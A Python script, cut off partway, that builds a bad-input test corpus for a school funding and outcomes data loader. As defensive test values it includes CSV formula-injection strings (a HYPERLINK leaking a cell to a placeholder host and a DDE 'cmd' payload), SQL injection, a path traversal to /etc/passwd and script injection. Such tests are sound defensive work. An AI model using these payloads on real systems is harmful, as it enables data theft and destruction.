"""Write the bad-input corpus under tests/corpus/ and its expected outcomes.

    uv run python scripts/make_corpus.py          # rewrite tests/corpus/
    uv run python scripts/make_corpus.py --check  # fail if the committed corpus differs

Every file is built here from a few hand-checkable rows, so the expected outcome of each
(refused with a reason, or loaded with N rows and these rows quarantined for these rules)
sits next to the bytes that cause it. The committed corpus stays small; three inputs are
too big to commit and are built at test time by the functions at the bottom
(`build_generated`): a CSV of one million rows of garbage, an `.xlsx` zip bomb, and a
1 MB description.

Expected outcome schema (tests/corpus/expected.json, keyed by "<source>/<file name>"):

- `{"status": "refused", "reason_kind": K, "reason_contains": [...]}`: the file is refused
  whole; `K` is one of unreadable_file, wrong_extension, empty_file, missing_column,
  encoding (or null where the contract does not say which); every `reason_contains`
  substring appears in the reason (case-insensitive).
- `{"status": "loaded", "rows_read": N, "rows_loaded": L, "rows_quarantined": Q,
   "quarantine": [{"row": R, "rules": [...], "columns": [...]}], "values": {...},
   "extra_columns": [...]}`: each listed spreadsheet row R is quarantined with at least the
  listed rules, and any other rule reported for it is about one of the listed columns;
  rows not listed are loaded. `rules: null` means any reason. `values` maps a row number
  to raw-table column values as text (checks that nothing was evaluated or mangled).
- `{"any_of": [...], "why": "..."}`: the contract allows more than one outcome; the actual
  one must match one alternative exactly as above.

UPNs are synthetic: valid ones are built with the DfE check letter for Middlesbrough's LA
number (806) and made-up establishment and serial numbers.
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import hashlib
import io
import itertools
import json
import math
import random
import struct
import sys
import zlib
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import xlsxwriter

REPO = Path(__file__).resolve().parents[1]
CORPUS = REPO / "tests" / "corpus"
SOURCES = ("spend", "allocations", "outcomes", "voice")

UPN_ALPHABET = "ABCDEFGHJKLMNPQRTUVWXYZ"

# Real register URNs: Middlesbrough (LA 806) mainstream schools, one City of London school.
URN_A, URN_B, URN_C, URN_D = 111577, 134076, 130908, 138559
URN_OTHER_LA = 100000
URN_NOT_IN_REGISTER = 999999
YEAR = "2025/26"
PREV_YEAR = "2024/25"

COLUMNS: dict[str, list[str]] = {
    "spend": ["urn", "academic_year", "term", "category", "amount_gbp", "description"],
    "allocations": ["urn", "academic_year", "allocation_gbp"],
    "outcomes": [
        "urn", "academic_year", "upn", "year_group", "sen_provision", "primary_need",
        "first_identified_year_group", "sessions_possible", "sessions_attended",
        "base_sessions", "suspensions", "permanently_excluded", "plan_targets_set",
        "plan_targets_met", "plan_reviewed_on", "left_roll", "leaving_reason",
        "destination", "destination_sustained", "met_expected_standard",
    ],
    "voice": [
        "urn", "academic_year", "respondent_id", "respondent_type", "sen_provision",
        "year_group", "question_code", "response", "collected_on",
    ],
}

Row = dict[str, str]


# ── UPNs ────────────────────────────────────────────────────────────────────────────────

def upn_check_letter(body: str) -> str:
    """DfE check letter for the 12 characters after it (positions 2..13, weights 2..13)."""
    if len(body) != 12 or not body.isdigit():
        raise ValueError(f"UPN body must be 12 digits: {body!r}")
    return UPN_ALPHABET[sum(int(d) * w for d, w in zip(body, range(2, 14), strict=True)) % 23]


def make_upn(serial: int, la: int = 806, estab: int = 2120, year: int = 15) -> str:
    body = f"{la:03d}{estab:04d}{year:02d}{serial:03d}"
    return upn_check_letter(body) + body


def wrong_check_letter(upn: str) -> str:
    good = upn[0]
    bad = UPN_ALPHABET[(UPN_ALPHABET.index(good) + 5) % 23]
    return bad + upn[1:]


def is_valid_upn(value: str) -> bool:
    value = value.strip().upper()
    return (
        len(value) == 13
        and value[0] in UPN_ALPHABET
        and value[1:].isdigit()
        and upn_check_letter(value[1:]) == value[0]
    )


# ── rows ────────────────────────────────────────────────────────────────────────────────

def spend(**over: Any) -> Row:
    row = {
        "urn": str(URN_A), "academic_year": YEAR, "term": "autumn",
        "category": "staff_development", "amount_gbp": "1200.00",
        "description": "Whole-staff training on adaptive teaching",
    }
    row.update({k: str(v) for k, v in over.items()})
    return row


def allocation(**over: Any) -> Row:
    row = {"urn": str(URN_A), "academic_year": YEAR, "allocation_gbp": "85000.00"}
    row.update({k: str(v) for k, v in over.items()})
    return row


_serials = itertools.count(1)


def outcome(**over: Any) -> Row:
    """A pupil with no SEN in year 5 who stayed on roll; every rule satisfied."""
    row = {
        "urn": str(URN_A), "academic_year": YEAR, "upn": make_upn(next(_serials) % 1000),
        "year_group": "5", "sen_provision": "N", "primary_need": "",
        "first_identified_year_group": "", "sessions_possible": "380",
        "sessions_attended": "361", "base_sessions": "0", "suspensions": "0",
        "permanently_excluded": "N", "plan_targets_set": "", "plan_targets_met": "",
        "plan_reviewed_on": "", "left_roll": "N", "leaving_reason": "", "destination": "",
        "destination_sustained": "", "met_expected_standard": "",
    }
    row.update({k: str(v) for k, v in over.items()})
    return row


def outcome_k(**over: Any) -> Row:
    """A pupil on SEN support with a reviewed plan and some inclusion-base time."""
    base = {
        "sen_provision": "K", "primary_need": "SEMH", "first_identified_year_group": "2",
        "plan_targets_set": "4", "plan_targets_met": "3", "plan_reviewed_on": "2026-03-10",
        "base_sessions": "40",
    }
    base.update(over)
    return outcome(**base)


def leaver_y11(**over: Any) -> Row:
    base = {
        "year_group": "11", "left_roll": "Y", "leaving_reason": "end_of_phase",
        "destination": "education", "destination_sustained": "Y",
        "met_expected_standard": "Y",
    }
    base.update(over)
    return outcome(**base)


_respondents = itertools.count(1)


def voice(**over: Any) -> Row:
    row = {
        "urn": str(URN_A), "academic_year": YEAR,
        "respondent_id": f"R-{next(_respondents):05d}", "respondent_type": "pupil",
        "sen_provision": "K", "year_group": "5", "question_code": "P_BEL_1",
        "response": "4", "collected_on": "2026-03-12",
    }
    row.update({k: str(v) for k, v in over.items()})
    return row


def parent(**over: Any) -> Row:
    base = {"respondent_type": "parent_carer", "question_code": "F_CON_1", "response": "3"}
    base.update(over)
    return voice(**base)


# ── writers ─────────────────────────────────────────────────────────────────────────────

def csv_text(columns: Sequence[str], rows: Sequence[Row], newline: str = "\r\n") -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=newline)
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(c, "") for c in columns])
    return out.getvalue()


def csv_bytes(source: str, rows: Sequence[Row], encoding: str = "utf-8",
              columns: Sequence[str] | None = None, newline: str = "\r\n") -> bytes:
    return csv_text(columns or COLUMNS[source], rows, newline).encode(encoding)


def xlsx_bytes(build: Callable[[xlsxwriter.Workbook], None]) -> bytes:
    out = io.BytesIO()
    # Fixed creation date: the same corpus bytes on every rebuild.
    workbook = xlsxwriter.Workbook(out, {"in_memory": True})
    workbook.set_properties({"created": _FIXED_DATE})
    build(workbook)
    workbook.close()
    return out.getvalue()


def _sheet_rows(sheet: Any, columns: Sequence[str], rows: Sequence[Row], start: int = 0) -> None:
    sheet.write_row(start, 0, list(columns))
    for i, row in enumerate(rows, start=start + 1):
        for j, column in enumerate(columns):
            value = row.get(column, "")
            if value == "":
                continue
            # Numbers as numbers, as a school MIS export would write them.
            try:
                number = float(value)
            except ValueError:
                sheet.write_string(i, j, value)
            else:
                text_column = column in ("upn", "respondent_id", "academic_year", "year_group")
                if text_column or not math.isfinite(number):
                    sheet.write_string(i, j, value)
                else:
                    sheet.write_number(i, j, number)


# ── expectations ────────────────────────────────────────────────────────────────────────

def refused(kind: str | None, *contains: str) -> dict[str, Any]:
    return {"status": "refused", "reason_kind": kind, "reason_contains": list(contains)}


def q(row: int, rules: Sequence[str] | None, columns: Sequence[str] = ()) -> dict[str, Any]:
    return {"row": row, "rules": None if rules is None else list(rules),
            "columns": list(columns)}


def loaded(rows_read: int, quarantine: Sequence[dict[str, Any]] = (),
           values: dict[int, dict[str, str]] | None = None,
           extra_columns: Sequence[str] = ()) -> dict[str, Any]:
    quarantined = len({entry["row"] for entry in quarantine})
    out: dict[str, Any] = {
        "status": "loaded", "rows_read": rows_read,
        "rows_loaded": rows_read - quarantined, "rows_quarantined": quarantined,
        "quarantine": list(quarantine),
    }
    if values:
        out["values"] = {str(k): v for k, v in values.items()}
    if extra_columns:
        out["extra_columns"] = list(extra_columns)
    return out


def any_of(why: str, *alternatives: dict[str, Any]) -> dict[str, Any]:
    return {"any_of": list(alternatives), "why": why}


_FIXED_DATE = dt.datetime(2026, 1, 5, 9, 0, 0)


# ── the corpus ──────────────────────────────────────────────────────────────────────────

def build_corpus() -> dict[str, tuple[bytes, dict[str, Any]]]:
    """name → (bytes, expected outcome). Names are '<source>/<file>'."""
    global _serials, _respondents
    _serials, _respondents = itertools.count(1), itertools.count(1)
    files: dict[str, tuple[bytes, dict[str, Any]]] = {}

    def add(name: str, data: bytes, expected: dict[str, Any]) -> None:
        if name in files:
            raise ValueError(f"duplicate corpus name {name}")
        files[name] = (data, expected)

    # ---------------------------------------------------------------- good files
    add("spend/good_trust_return.csv", csv_bytes("spend", [
        spend(urn=URN_A, term="autumn", category="coaching_and_modelling", amount_gbp="4500"),
        spend(urn=URN_B, term="autumn", category="inclusion_base", amount_gbp="12000.50"),
        spend(urn=URN_C, term="spring", category="one_to_one_support", amount_gbp="0"),
        spend(urn=URN_OTHER_LA, term="summer", category="early_identification",
              amount_gbp="1000000"),
        spend(urn=URN_D, term="summer", category="other", amount_gbp="99.99",
              description="Ear defenders for a calm corner"),
    ]), loaded(5))
    add("allocations/good_allocations.csv", csv_bytes("allocations", [
        allocation(urn=URN_A), allocation(urn=URN_B, allocation_gbp="0"),
        allocation(urn=URN_C, allocation_gbp="5000000"),
        allocation(urn=URN_D, academic_year=PREV_YEAR, allocation_gbp="61000.25"),
    ]), loaded(4))
    add("outcomes/good_pupils.csv", csv_bytes("outcomes", [
        outcome(urn=URN_B), outcome_k(urn=URN_B),
        outcome_k(urn=URN_B, sen_provision="E", primary_need="ASD",
                  first_identified_year_group="R"),
        leaver_y11(urn=URN_C), outcome(urn=URN_C, year_group="N1", sessions_possible="0",
                                       sessions_attended="0"),
    ]), loaded(5))
    add("voice/good_survey.csv", csv_bytes("voice", [
        voice(urn=URN_B), voice(urn=URN_B, question_code="P_WEL_2", response=""),
        parent(urn=URN_B), parent(urn=URN_B, question_code="F_CON_3", response="1"),
        voice(urn=URN_B, collected_on="01/09/2025", question_code="P_SAF_1", response="5"),
    ]), loaded(5))

    # ---------------------------------------------------------------- spend: every rule
    add("spend/urn_not_in_register.csv", csv_bytes("spend", [
        spend(), spend(urn=URN_NOT_IN_REGISTER), spend(urn="1234567"), spend(urn=URN_B),
    ]), loaded(4, [q(3, ["urn_not_in_register"], ["urn"]),
                   q(4, ["urn_not_in_register"], ["urn"])]))
    add("spend/urn_integer_format.csv", csv_bytes("spend", [
        spend(), spend(urn="11157A"), spend(urn="=1+1"), spend(urn="111577.5"),
    ]), loaded(4, [q(3, ["integer_format"], ["urn"]), q(4, ["integer_format"], ["urn"]),
                   q(5, ["integer_format"], ["urn"])]))
    add("spend/academic_year_format.csv", csv_bytes("spend", [
        spend(), spend(academic_year="2025/27"), spend(academic_year="2025-26"),
        spend(academic_year="25/26"), spend(academic_year="2025/2026"),
        spend(academic_year=PREV_YEAR),
    ]), loaded(6, [q(r, ["academic_year_format"], ["academic_year"]) for r in (3, 4, 5, 6)]))
    add("spend/term_code.csv", csv_bytes("spend", [
        spend(term="summer"), spend(term="winter"), spend(term="autumn 2"), spend(term="spring"),
    ]), loaded(4, [q(3, ["term_code"], ["term"]), q(4, ["term_code"], ["term"])]))
    add("spend/category_code.csv", csv_bytes("spend", [
        spend(category="small_group_intervention"), spend(category="biscuits"),
        spend(category="staff development"), spend(category="individual_equipment"),
    ]), loaded(4, [q(3, ["category_code"], ["category"]), q(4, ["category_code"], ["category"])]))
    add("spend/amount_range.csv", csv_bytes("spend", [
        spend(amount_gbp="0"), spend(amount_gbp="-0.01"), spend(amount_gbp="1000000.01"),
        spend(amount_gbp="£1,000,000.00"), spend(amount_gbp="-250"),
    ]), loaded(5, [q(3, ["amount_range"], ["amount_gbp"]), q(4, ["amount_range"], ["amount_gbp"]),
                   q(6, ["amount_range"], ["amount_gbp"])],
               values={5: {"amount_gbp": "1000000.00"}}))
    add("spend/amount_decimals.csv", csv_bytes("spend", [
        spend(amount_gbp="12.5"), spend(amount_gbp="12.345"), spend(amount_gbp="0.001"),
        spend(amount_gbp="12.30"),
    ]), loaded(4, [q(3, ["amount_decimals"], ["amount_gbp"]),
                   q(4, ["amount_decimals"], ["amount_gbp"])]))
    add("spend/money_formats.csv", csv_bytes("spend", [
        spend(amount_gbp="£1,234.50"), spend(amount_gbp="1,000"), spend(amount_gbp="75"),
        spend(amount_gbp="£0.99"),
    ]), loaded(4, values={2: {"amount_gbp": "1234.50"}, 3: {"amount_gbp": "1000.00"},
                          5: {"amount_gbp": "0.99"}}))
    add("spend/description_length.csv", csv_bytes("spend", [
        spend(description="x" * 500), spend(description="y" * 501), spend(description=""),
    ]), loaded(3, [q(3, ["description_length"], ["description"])]))
    add("spend/other_without_description.csv", csv_bytes("spend", [
        spend(category="other", description="Sensory room beanbags"),
        spend(category="other", description=""), spend(category="other", description="   "),
        spend(category="family_partnership", description=""),
    ]), loaded(4, [q(3, ["other_without_description"], ["description", "category"]),
                   q(4, ["other_without_description"], ["description", "category"])]))
    add("spend/required_values.csv", csv_bytes("spend", [
        spend(), spend(urn=""), spend(term=""), spend(category=""), spend(amount_gbp=""),
        spend(academic_year=""),
    ]), loaded(6, [q(3, ["required_value"], ["urn"]), q(4, ["required_value"], ["term"]),
                   q(5, ["required_value"], ["category"]),
                   q(6, ["required_value"], ["amount_gbp"]),
                   q(7, ["required_value"], ["academic_year"])]))
    add("spend/several_reasons_one_row.csv", csv_bytes("spend", [
        spend(urn=URN_NOT_IN_REGISTER, academic_year="2025-26", term="winter",
              category="biscuits", amount_gbp="-5"),
    ]), loaded(1, [q(2, ["urn_not_in_register", "academic_year_format", "term_code",
                         "category_code", "amount_range"],
                     ["urn", "academic_year", "term", "category", "amount_gbp"])]))
    variants = {"urn": " URN ", "academic_year": "Academic Year", "term": "TERM",
                "category": "Category", "amount_gbp": "Amount-GBP",
                "description": "description"}
    add("spend/header_variants_extra_column.csv", csv_bytes("spend", [
        {variants[k]: v for k, v in row.items()} | {"notes": "ignore me"}
        for row in (spend(), spend(urn=URN_B, term="spring"))
    ], columns=[*variants.values(), "notes"]), loaded(2, extra_columns=["notes"]))
    add("spend/multiline_quoted_description.csv", csv_bytes("spend", [
        spend(description="Line one of a long note\nline two\nline three"),
        spend(term="winter"), spend(),
    ]), loaded(3, [q(3, ["term_code"], ["term"])],
               values={2: {"description": "Line one of a long note\nline two\nline three"}}))

    # ---------------------------------------------------------------- spend: formulas, text
    add("spend/formula_text.csv", csv_bytes("spend", [
        spend(description="=1+1"),
        spend(description='=HYPERLINK("http://example.invalid/x?d="&A1,"Click for details")'),
        spend(description="@SUM(A1:A9)"), spend(description="+cmd|' /C calc'!A0"),
        spend(description="-2+3"),
    ]), loaded(5, values={
        2: {"description": "=1+1"},
        3: {"description": '=HYPERLINK("http://example.invalid/x?d="&A1,"Click for details")'},
        4: {"description": "@SUM(A1:A9)"}, 5: {"description": "+cmd|' /C calc'!A0"},
        6: {"description": "-2+3"}}))
    add("spend/sql_and_path_text.csv", csv_bytes("spend", [
        spend(description="'); DROP TABLE raw.spend; --"),
        spend(description="../../../../etc/passwd"),
        spend(description="{{ 7*7 }} <script>alert(1)</script>"),
    ]), loaded(3, values={2: {"description": "'); DROP TABLE raw.spend; --"},
                          3: {"description": "../../../../etc/passwd"},
                          4: {"description": "{{ 7*7 }} <script>alert(1)</script>"}}))
    add("spend/control_characters.csv", csv_bytes("spend", [
        spend(description="bell\x07 escape\x1b[31m tab\there"), spend(),
        spend(description="vertical\x0btab form\x0cfeed"),
    ]), loaded(3, values={2: {"description": "bell\x07 escape\x1b[31m tab\there"}}))
    add("spend/nul_bytes.csv", csv_bytes("spend", [
        spend(description="before\x00after"), spend(),
        spend(urn="1115\x0077"),
    ]), any_of("NUL bytes in a CSV: the contract does not say whether they make a file "
               "binary (refused whole, the sender told) or are text in a cell.",
               refused("unreadable_file"),
               loaded(3, [q(4, ["integer_format"], ["urn"])])))

    # ---------------------------------------------------------------- spend: encodings
    add("spend/utf8_bom.csv", b"\xef\xbb\xbf" + csv_bytes("spend", [
        spend(description="Café visits — “calm space”"), spend(urn=URN_B),
    ]), loaded(2, values={2: {"description": "Café visits — “calm space”"}}))
    add("spend/windows1252_excel.csv", csv_bytes("spend", [
        spend(amount_gbp="£1,500.00", description="Café-style nurture room \u2013 £ for chairs"),
        spend(urn=URN_B, description="Pupils\u2019 “quiet” kit"),
    ], encoding="cp1252"), loaded(2, values={
        2: {"amount_gbp": "1500.00", "description": "Café-style nurture room \u2013 £ for chairs"},
        3: {"description": "Pupils\u2019 “quiet” kit"}}))
    add("spend/utf16_excel_unicode_text.csv", "\ufeff".encode("utf-16-le") + csv_bytes(
        "spend", [spend(), spend(urn=URN_B)], encoding="utf-16-le"),
        refused("encoding"))
    add("spend/utf16_no_bom.csv", csv_bytes("spend", [spend(urn=URN_C), spend(urn=URN_D)],
                                            encoding="utf-16-be"),
        refused("encoding"))
    garbage = bytes([0x81, 0x8D, 0x8F, 0x90, 0x9D, 0xC3, 0x28, 0xFF, 0xFE, 0x80, 0x81])
    add("spend/latin1_garbage.csv",
        csv_bytes("spend", [spend(description="AAAA"), spend(description="BBBB")]).replace(
            b"AAAA", garbage).replace(b"BBBB", garbage[::-1]),
        refused("encoding"))
    add("spend/mixed_encodings.csv",
        csv_bytes("spend", [spend(description="café (utf-8)")])
        + csv_bytes("spend", [spend(urn=URN_B, description="£20 (cp1252)")],
                    encoding="cp1252").split(b"\r\n", 1)[1],
        any_of("Not valid UTF-8 but valid Windows-1252: the contract's detection reads it as "
               "Windows-1252 (mojibake in one description); refusing it as an encoding "
               "problem is also a reasonable reading. Either way nothing is lost.",
               loaded(2), refused("encoding")))

    # ---------------------------------------------------------------- spend: structure
    add("spend/empty.csv", b"", refused("empty_file"))
    add("spend/header_only.csv", csv_bytes("spend", []),
        any_of("The contract refuses 'empty' files and files with 'no header'; a header "
               "with no data rows is not named. Refusing it as empty or loading zero rows "
               "are both consistent with it.",
               refused("empty_file"), loaded(0)))
    add("spend/missing_column_amount.csv", csv_bytes("spend", [spend(), spend()], columns=[
        "urn", "academic_year", "term", "category", "description"]),
        refused("missing_column", "amount_gbp"))
    add("spend/duplicated_header.csv",
        b"urn,academic_year,term,category,amount_gbp,amount_gbp,description\r\n"
        b"111577,2025/26,autumn,staff_development,1200.00,9999.00,Training\r\n",
        refused("duplicate_column", "amount_gbp"))
    add("spend/duplicated_header_after_normalising.csv",
        b"urn,Academic Year,academic_year,term,category,amount_gbp,description\r\n"
        b"111577,2025/26,2024/25,autumn,staff_development,1200.00,Training\r\n",
        refused("duplicate_column", "academic_year"))
    good_lines = csv_bytes("spend", [spend(), spend(urn=URN_B), spend(urn=URN_C)])
    add("spend/truncated_mid_row.csv",
        good_lines + b"138559,2025/26,spring,small_gr",
        loaded(4, [q(5, ["category_code", "required_value"], ["category", "amount_gbp"])]))
    add("spend/truncated_mid_quote.csv",
        good_lines + b'138559,2025/26,summer,other,250.00,"Replacement ear defenders for',
        any_of("A quoted field cut off by the end of the file: the upload was truncated. "
               "Refusing the file, or loading the complete rows and quarantining the cut "
               "row, both lose nothing; silently loading the cut row does not qualify.",
               refused("unreadable_file"), loaded(4, [q(5, None)])))
    add("spend/pdf_named_as.csv",
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Length 44 /Filter /FlateDecode >>\nstream\n"
        + zlib.compress(b"BT /F1 12 Tf 72 712 Td (Spend return) Tj ET") + b"\nendstream\n"
        b"endobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
        any_of("PDF bytes named .csv: refused as not readable; 'encoding' is an acceptable "
               "description since the bytes are not text.",
               refused("unreadable_file"), refused("encoding")))
    add("spend/csv_named_as.xlsx", csv_bytes("spend", [spend(), spend(urn=URN_B)]),
        any_of("CSV text named .xlsx: not a workbook.",
               refused("unreadable_file"), refused("wrong_extension")))
    add("spend/notes_for_la.txt", b"Please find our spend attached. Thanks, SBM\r\n",
        refused("wrong_extension"))

    def merged(workbook: xlsxwriter.Workbook) -> None:
        sheet = workbook.add_worksheet("Spend")
        rows = [spend(urn="", term="autumn"), spend(urn="", term="spring"),
                spend(urn="", term="summer"), spend(urn=URN_B)]
        _sheet_rows(sheet, COLUMNS["spend"], rows)
        # The school merged the URN over its three rows: only the top cell holds it.
        sheet.merge_range(1, 0, 3, 0, URN_A)

    add("spend/merged_cells.xlsx", xlsx_bytes(merged), any_of(
        "A value merged over three rows is stored in the top cell only. The contract says "
        "empty cells are null (rows 3-4 quarantined for a missing URN); filling the merged "
        "value down, as the sheet shows it, is also a faithful reading.",
        loaded(4, [q(3, ["required_value"], ["urn"]), q(4, ["required_value"], ["urn"])]),
        loaded(4, values={3: {"urn": str(URN_A)}, 4: {"urn": str(URN_A)}})))
    add("spend/huge_header_line.csv",
        (",".join(f"column_{i}" for i in range(20_000)) + "\r\n1,2,3\r\n").encode(),
        refused("missing_column", "amount_gbp"))

    def title_row(workbook: xlsxwriter.Workbook) -> None:
        sheet = workbook.add_worksheet("Spend")
        sheet.merge_range(0, 0, 0, 5, "Inclusive Mainstream Fund spend return — autumn")
        _sheet_rows(sheet, COLUMNS["spend"], [spend(), spend(urn=URN_B)], start=1)

    add("spend/merged_title_row.xlsx", xlsx_bytes(title_row),
        refused("missing_column", "urn"))

    def multi_sheet(workbook: xlsxwriter.Workbook) -> None:
        first = workbook.add_worksheet("Return")
        _sheet_rows(first, COLUMNS["spend"], [spend(), spend(urn=URN_B), spend(urn=URN_C)])
        notes = workbook.add_worksheet("Workings")
        _sheet_rows(notes, COLUMNS["spend"],
                    [spend(urn=URN_NOT_IN_REGISTER, term="winter")] * 7)
        notes.write_string(20, 0, "these rows are workings, not the return")

    add("spend/multi_sheet.xlsx", xlsx_bytes(multi_sheet), loaded(3))

    def formula_cells(workbook: xlsxwriter.Workbook) -> None:
        sheet = workbook.add_worksheet("Spend")
        _sheet_rows(sheet, COLUMNS["spend"], [spend(), spend(), spend(), spend()])
        # Text that looks like a formula, stored as text.
        sheet.write_string(1, 5, "=1+1")
        sheet.write_string(2, 5, '=HYPERLINK("http://example.invalid","open me")')
        # Real formula cells with the value Excel cached: read the value, never evaluate.
        sheet.write_formula(3, 4, "=100*3", None, 300)
        sheet.write_formula(4, 5, '=CONCATENATE("Speech and ","language")', None,
                            "Speech and language")

    add("spend/formula_cells.xlsx", xlsx_bytes(formula_cells), loaded(4, values={
        2: {"description": "=1+1"},
        3: {"description": '=HYPERLINK("http://example.invalid","open me")'},
        4: {"amount_gbp": "300.00"}}))
    add("spend/truncated_zip.xlsx", xlsx_bytes(multi_sheet)[:1500],
        refused("unreadable_file"))

    # ---------------------------------------------------------------- allocations
    add("allocations/allocation_range.csv", csv_bytes("allocations", [
        allocation(allocation_gbp="-1"), allocation(urn=URN_B, allocation_gbp="5000000.01"),
        allocation(urn=URN_C, allocation_gbp="£4,999,999.99"),
    ]), loaded(3, [q(2, ["allocation_range"], ["allocation_gbp"]),
                   q(3, ["allocation_range"], ["allocation_gbp"])],
               values={4: {"allocation_gbp": "4999999.99"}}))
    add("allocations/urn_and_year.csv", csv_bytes("allocations", [
        allocation(urn=URN_NOT_IN_REGISTER), allocation(urn=URN_B, academic_year="2025/25"),
        allocation(urn="abc"), allocation(urn=URN_D), allocation(urn="", allocation_gbp=""),
    ]), loaded(5, [q(2, ["urn_not_in_register"], ["urn"]),
                   q(3, ["academic_year_format"], ["academic_year"]),
                   q(4, ["integer_format"], ["urn"]),
                   q(6, ["required_value"], ["urn", "allocation_gbp"])]))
    add("allocations/whitespace_only.csv", b"\r\n  \r\n\t\r\n", refused("empty_file"))
    add("allocations/bom_only.csv", b"\xef\xbb\xbf", refused("empty_file"))
    add("allocations/missing_allocation_column.csv", csv_bytes("allocations", [
        allocation()], columns=["urn", "academic_year", "amount"]),
        refused("missing_column", "allocation_gbp"))
    add("allocations/no_header_row.csv",
        b"111577,2025/26,85000.00\r\n134076,2025/26,72000.00\r\n",
        refused("missing_column", "urn"))
    add("allocations/old_excel_format.xls",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, refused("wrong_extension"))
    add("allocations/no_extension", csv_bytes("allocations", [allocation(urn=URN_C)]),
        refused("wrong_extension"))

    def alloc_xlsx(workbook: xlsxwriter.Workbook) -> None:
        sheet = workbook.add_worksheet("Allocations 2025-26")
        _sheet_rows(sheet, COLUMNS["allocations"], [
            allocation(urn=URN_A, allocation_gbp="61000"),
            allocation(urn=URN_B, allocation_gbp="-3"),
            allocation(urn=URN_C, allocation_gbp="40000.5"),
        ])

    add("allocations/allocations.xlsx", xlsx_bytes(alloc_xlsx),
        loaded(3, [q(3, ["allocation_range"], ["allocation_gbp"])],
               values={4: {"allocation_gbp": "40000.50"}}))

    # ---------------------------------------------------------------- outcomes
    add("outcomes/upn_check_letter.csv", csv_bytes("outcomes", [
        outcome(), outcome(upn=wrong_check_letter(make_upn(501))),
        outcome(upn=make_upn(502)[:-1]), outcome(upn="I806212015503"),
        outcome(upn=make_upn(504).lower()), outcome(upn="1" + make_upn(505)[1:]),
    ]), any_of("A lower-case UPN with a valid check letter: the contract does not say "
               "whether case is normalised. Everything else here is strictly bad.",
               loaded(6, [q(3, ["upn_check_letter"], ["upn"]),
                          q(4, ["upn_check_letter"], ["upn"]),
                          q(5, ["upn_check_letter"], ["upn"]),
                          q(7, ["upn_check_letter"], ["upn"])]),
               loaded(6, [q(3, ["upn_check_letter"], ["upn"]),
                          q(4, ["upn_check_letter"], ["upn"]),
                          q(5, ["upn_check_letter"], ["upn"]),
                          q(6, ["upn_check_letter"], ["upn"]),
                          q(7, ["upn_check_letter"], ["upn"])])))
    add("outcomes/codes.csv", csv_bytes("outcomes", [
        outcome(year_group="R"), outcome(year_group="15"), outcome(year_group="Y5"),
        outcome(sen_provision="S"), outcome_k(primary_need="ADHD"),
        outcome_k(primary_need="SPLD", first_identified_year_group="N3"),
        outcome(year_group="N2"), outcome(year_group="14"),
    ]), loaded(8, [q(3, ["year_group_code"], ["year_group"]),
                   q(4, ["year_group_code"], ["year_group"]),
                   q(5, ["sen_provision_code"], ["sen_provision"]),
                   q(6, ["primary_need_code"], ["primary_need"]),
                   q(7, ["year_group_code"], ["first_identified_year_group"])]))
    add("outcomes/sen_dependencies.csv", csv_bytes("outcomes", [
        outcome_k(), outcome_k(primary_need=""), outcome(primary_need="MLD"),
        outcome_k(sen_provision="E", first_identified_year_group=""),
        outcome(first_identified_year_group="3"),
    ]), loaded(5, [q(3, ["primary_need_required"], ["primary_need", "sen_provision"]),
                   q(4, ["primary_need_not_allowed"], ["primary_need", "sen_provision"]),
                   q(5, ["first_identified_required"],
                     ["first_identified_year_group", "sen_provision"]),
                   q(6, ["first_identified_not_allowed"],
                     ["first_identified_year_group", "sen_provision"])]))
    add("outcomes/sessions.csv", csv_bytes("outcomes", [
        outcome(sessions_possible="420", sessions_attended="420"),
        outcome(sessions_possible="421", sessions_attended="300"),
        outcome(sessions_possible="-2", sessions_attended="0"),
        outcome(sessions_possible="300", sessions_attended="301"),
        outcome_k(sessions_attended="100", base_sessions="101"),
        outcome(suspensions="51"), outcome(suspensions="-1"), outcome(suspensions="50"),
    ]), loaded(8, [q(3, ["sessions_possible_range"], ["sessions_possible"]),
                   q(4, ["sessions_possible_range"],
                     ["sessions_possible", "sessions_attended"]),
                   q(5, ["attended_exceeds_possible"],
                     ["sessions_attended", "sessions_possible"]),
                   q(6, ["base_exceeds_attended"], ["base_sessions", "sessions_attended"]),
                   q(7, ["suspensions_range"], ["suspensions"]),
                   q(8, ["suspensions_range"], ["suspensions"])]))
    add("outcomes/integer_format.csv", csv_bytes("outcomes", [
        outcome(sessions_possible="380.5"), outcome(sessions_attended="three hundred"),
        outcome(suspensions="1e2"), outcome(sessions_possible="380"),
    ]), loaded(4, [q(2, ["integer_format"], ["sessions_possible", "sessions_attended"]),
                   q(3, ["integer_format"],
                     ["sessions_attended", "sessions_possible", "base_sessions"]),
                   q(4, ["integer_format"], ["suspensions"])]))
    add("outcomes/booleans_and_dates.csv", csv_bytes("outcomes", [
        outcome(permanently_excluded="yes"), outcome(permanently_excluded="TRUE"),
        outcome(permanently_excluded="0"), outcome(permanently_excluded="maybe"),
        outcome(left_roll="2"), outcome_k(plan_reviewed_on="15/03/2026"),
        outcome_k(plan_reviewed_on="2026-02-30"), outcome_k(plan_reviewed_on="March 2026"),
        outcome_k(plan_reviewed_on="2026-09-01"), outcome_k(plan_reviewed_on="2026-08-31"),
        outcome(year_group="6", met_expected_standard="n"),
    ]), loaded(11, [q(5, ["boolean_value"], ["permanently_excluded"]),
                    q(6, ["boolean_value"], ["left_roll"]),
                    q(8, ["date_format"], ["plan_reviewed_on"]),
                    q(9, ["date_format"], ["plan_reviewed_on"]),
                    q(10, ["plan_reviewed_after_year"], ["plan_reviewed_on"])],
                values={2: {"permanently_excluded": "true"}, 4: {"permanently_excluded": "false"},
                        7: {"plan_reviewed_on": "2026-03-15"}}))
    add("outcomes/plan_targets.csv", csv_bytes("outcomes", [
        outcome_k(plan_targets_set="3", plan_targets_met="4"),
        outcome_k(plan_targets_set="3", plan_targets_met="3"),
        outcome_k(plan_targets_set="0", plan_targets_met="0"),
    ]), loaded(3, [q(2, ["plan_targets_met_exceeds_set"],
                     ["plan_targets_met", "plan_targets_set"])]))
    add("outcomes/leavers.csv", csv_bytes("outcomes", [
